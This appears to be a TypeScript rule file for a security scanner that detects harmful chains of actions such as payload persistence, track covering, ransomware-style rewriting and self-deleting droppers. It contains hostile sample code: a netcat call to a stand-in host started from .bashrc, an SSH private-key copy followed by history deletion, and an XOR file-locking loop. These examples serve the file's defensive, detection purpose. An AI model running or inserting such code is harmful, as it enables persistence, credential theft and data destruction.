import type { Pattern, Rule } from '../rule.ts';
import { ADDS_A_SETTING } from './persistence.ts';
import { OWN_CREDENTIALS } from './secrets.ts';

const SYSTEM_PATH: Pattern = { text: /^\/(dev|proc|sys|usr|lib)\// };
const PERSISTS: readonly Pattern[] = [
  {
    capability: ['file.write', 'system.persist'],
    at: ['shell-profile', 'schedule', 'authorized-keys'],
    except: [ADDS_A_SETTING],
  },
  {
    capability: ['process.spawn'],
    text: /^(\S*\/)?crontab\s+(-u\s+\S+\s+)?(-|[^-\s]\S*)\s*$|^(\S*\/)?systemctl\s+(--user\s+)?(enable|link)\b/,
  },
];
/** What could be meant to be started later: a script, a program, what is hidden. */
const PAYLOAD = /\.(sh|py|pl|rb|js|mjs|php|bin|elf|so|run|ps1|exe|service)$|\/\.[^/]+$|\/(bin|sbin)\/[^/]+$/;
const DANGEROUS: readonly Pattern[] = [
  { capability: ['file.read', 'secret.read'], at: ['credential-store', 'password-store'], except: [OWN_CREDENTIALS] },
  { capability: ['file.read', 'secret.read'], argument: /^canary=/, except: [OWN_CREDENTIALS] },
  ...PERSISTS,
  { capability: ['file.write'], at: ['account-file', 'password-store', 'system-program', 'local-program'] },
  { capability: ['process.spawn'], text: /^((ba|da|z)?sh\s+|python[\d.]*\s+)?\/(tmp|var\/tmp|dev\/shm)\// },
  { capability: ['system.privilege', 'process.inject'] },
];
/** Where people keep files, on this machine or on a disk of theirs. */
const PERSONAL = /^\/(home|root|Users|mnt|media)\//;
const DROPPED: readonly Pattern[] = [
  { capability: ['file.write'], at: ['temporary'] },
  { capability: ['file.write'], text: /\/\.[^/]+$/ },
];

/** The chains whose end does harm on this machine. */
export const chainedDamageRules = {
  'payload-planted': {
    severity: 'critical',
    title: 'Left a program behind and arranged for it to be started',
    capability: 'system.persist',
    why: 'The program comes first, then what starts it again.',
    cwe: ['CWE-506'],
    attack: ['T1546.004', 'T1053.003', 'T1543.002'],
    message: '{callee} {target}: after it had put a program in place.',
    remedy: 'Do not run it. Remove what it left in start-up files and schedules.',
    independent: true,
    examples: {
      found: {
        language: 'bash',
        code: "echo 'nc drop.example 4444' > ~/.cache/.sync.sh\necho '~/.cache/.sync.sh &' >> ~/.bashrc",
        run: {
          events: [
            { capability: 'file.write', operation: 'openat', target: '/home/user/.cache/.sync.sh', line: 1 },
            { capability: 'file.write', operation: 'openat', target: '/home/user/.bashrc', line: 2 },
          ],
        },
      },
      ordinary: {
        language: 'bash',
        code: "echo 'echo hello' > hello.sh\ngrep PATH ~/.bashrc",
        run: {
          events: [
            { capability: 'file.write', operation: 'openat', target: '/work/hello.sh', line: 1 },
            { capability: 'file.read', operation: 'openat', target: '/home/user/.bashrc', line: 2 },
          ],
        },
      },
    },
    when: {
      chains: [
        {
          steps: [
            {
              as: 'writes a program',
              patterns: [{ capability: ['file.write'], text: PAYLOAD, except: [...PERSISTS, SYSTEM_PATH] }],
            },
            { as: 'makes it a program', patterns: [{ capability: ['file.permission'] }], by: ['path'], optional: true },
            { as: 'has it started', patterns: PERSISTS, by: ['tree'], to: 'writes a program' },
          ],
        },
      ],
    },
  },
  'tracks-covered': {
    severity: 'critical',
    title: 'Did something grave and then removed the record',
    capability: 'file.delete',
    why: 'Nobody deletes logs and histories after ordinary work.',
    cwe: ['CWE-778'],
    attack: ['T1070.002', 'T1070.003'],
    message: '{callee} {target}: a log or a history, after what it would show.',
    remedy: 'Do not run it.',
    independent: true,
    examples: {
      found: {
        language: 'bash',
        code: 'cat ~/.ssh/id_rsa > /tmp/k\nrm -f ~/.bash_history',
        run: {
          events: [
            { capability: 'file.read', operation: 'openat', target: '/home/user/.ssh/id_rsa', line: 1, process: 3 },
            {
              capability: 'file.delete',
              operation: 'unlinkat',
              target: '/home/user/.bash_history',
              line: 2,
              process: 4,
            },
          ],
          processes: [
            { pid: 2, parent: 1, command: 'bash' },
            { pid: 3, parent: 2, command: 'cat' },
            { pid: 4, parent: 2, command: 'rm' },
          ],
        },
      },
      ordinary: {
        language: 'bash',
        code: 'cat ~/.ssh/id_rsa > /tmp/k\nrm -f build.log',
        run: {
          events: [
            { capability: 'file.read', operation: 'openat', target: '/home/user/.ssh/id_rsa', line: 1, process: 3 },
            { capability: 'file.delete', operation: 'unlinkat', target: '/work/build.log', line: 2, process: 4 },
          ],
          processes: [
            { pid: 2, parent: 1, command: 'bash' },
            { pid: 3, parent: 2, command: 'cat' },
            { pid: 4, parent: 2, command: 'rm' },
          ],
        },
      },
    },
    when: {
      chains: [
        {
          steps: [
            { as: 'does something grave', patterns: DANGEROUS },
            {
              as: 'removes the record',
              patterns: [{ capability: ['file.write', 'file.delete'], at: ['history-file', 'system-log'] }],
              by: ['tree'],
            },
          ],
        },
      ],
    },
  },
  'files-held-to-ransom': {
    severity: 'critical',
    title: 'Replaced file after file by another',
    capability: 'file.write',
    why: 'Each file was read and written over, or written anew under a longer name and removed: what ransomware does.',
    cwe: ['CWE-506'],
    attack: ['T1486'],
    message: 'Files were written over or replaced, one after the other: {target}.',
    remedy: 'Do not run it. To encrypt files, write copies and leave the originals to the person.',
    independent: true,
    examples: {
      found: {
        language: 'python',
        code: "import os\n\nfor name in os.listdir('docs'):\n    data = open('docs/' + name, 'rb').read()\n    open('docs/' + name + '.locked', 'wb').write(bytes(b ^ 7 for b in data))\n    os.remove('docs/' + name)",
        run: {
          events: ['a.txt', 'b.odt', 'c.pdf', 'd.jpg'].flatMap(
            (name) =>
              [
                { capability: 'file.read', operation: 'openat', target: `/work/docs/${name}`, line: 4 },
                { capability: 'file.write', operation: 'openat', target: `/work/docs/${name}.locked`, line: 5 },
                { capability: 'file.delete', operation: 'unlink', target: `/work/docs/${name}`, line: 6 },
              ] as const,
          ),
        },
      },
      ordinary: {
        language: 'python',
        code: "import gzip, os\n\nfor name in os.listdir('logs'):\n    data = open('logs/' + name, 'rb').read()\n    gzip.open('logs/' + name + '.gz', 'wb').write(data)\n    os.remove('logs/' + name)",
        run: {
          events: ['a.log', 'b.log', 'c.log', 'd.log'].flatMap(
            (name) =>
              [
                { capability: 'file.read', operation: 'openat', target: `/work/logs/${name}`, line: 4 },
                { capability: 'file.write', operation: 'openat', target: `/work/logs/${name}.gz`, line: 5 },
                { capability: 'file.delete', operation: 'unlink', target: `/work/logs/${name}`, line: 6 },
              ] as const,
          ),
        },
      },
    },
    when: {
      chains: [
        {
          steps: [
            { as: 'reads a file', patterns: [{ capability: ['file.read', 'secret.read'], except: [SYSTEM_PATH] }] },
            { as: 'writes another', patterns: [{ capability: ['file.write'] }], by: ['grown-path'] },
            {
              as: 'deletes the first',
              patterns: [{ capability: ['file.delete'] }],
              by: ['path'],
              to: 'reads a file',
            },
          ],
          times: 3,
        },
        // In place, and only then under another name.
        {
          steps: [
            { as: 'writes over a file', patterns: [{ capability: ['file.write'], except: [SYSTEM_PATH] }] },
            {
              as: 'renames it',
              patterns: [{ capability: ['file.write'], argument: /^from=/ }],
              by: ['grown-path', 'path'],
            },
          ],
          times: 3,
        },
        // In place and under their names, where a person keeps files: nothing rewrites all it finds there.
        {
          steps: [
            { as: 'reads a file', patterns: [{ capability: ['file.read', 'secret.read'], text: PERSONAL }] },
            {
              as: 'writes over it',
              patterns: [
                { capability: ['file.write', 'system.persist'], text: PERSONAL, except: [{ argument: /^from=/ }] },
              ],
              by: ['path', 'process'],
            },
          ],
          times: 5,
        },
      ],
    },
  },
  'dropped-and-gone': {
    severity: 'high',
    title: 'Ran a program that deleted itself',
    capability: 'file.delete',
    why: 'Who looks later finds nothing.',
    cwe: ['CWE-506'],
    attack: ['T1070.004', 'T1204.002'],
    message: '{callee} {target}: its own file, after it was written and started.',
    remedy: 'Do not run it.',
    independent: true,
    examples: {
      found: {
        language: 'bash',
        code: 'printf \'touch /tmp/done; rm -- "$0"\' > /tmp/.once\nsh /tmp/.once',
        run: {
          events: [
            { capability: 'file.write', operation: 'openat', target: '/tmp/.once', line: 1 },
            { capability: 'process.spawn', operation: 'execve', target: 'sh /tmp/.once', line: 2, process: 3 },
            { capability: 'file.delete', operation: 'unlinkat', target: '/tmp/.once', line: 2, process: 4 },
          ],
          processes: [
            { pid: 2, parent: 1, command: 'bash' },
            { pid: 3, parent: 2, command: 'sh' },
            { pid: 4, parent: 3, command: 'rm' },
          ],
        },
      },
      ordinary: {
        language: 'bash',
        code: "printf 'touch /tmp/done' > /tmp/check\nsh /tmp/check\nrm /tmp/check",
        run: {
          events: [
            { capability: 'file.write', operation: 'openat', target: '/tmp/check', line: 1 },
            { capability: 'process.spawn', operation: 'execve', target: 'sh /tmp/check', line: 2, process: 3 },
            { capability: 'file.delete', operation: 'unlinkat', target: '/tmp/check', line: 3, process: 4 },
          ],
          processes: [
            { pid: 2, parent: 1, command: 'bash' },
            { pid: 3, parent: 2, command: 'sh' },
            { pid: 4, parent: 2, command: 'rm' },
          ],
        },
      },
    },
    when: {
      chains: [
        {
          steps: [
            { as: 'writes a file', patterns: DROPPED },
            { as: 'makes it a program', patterns: [{ capability: ['file.permission'] }], by: ['path'], optional: true },
            { as: 'runs it', patterns: [{ capability: ['process.spawn'] }], by: ['program'], to: 'writes a file' },
            { as: 'deletes itself', patterns: [{ capability: ['file.delete'] }], by: ['path', 'process'] },
          ],
        },
      ],
    },
  },
} as const satisfies Record<string, Rule>;
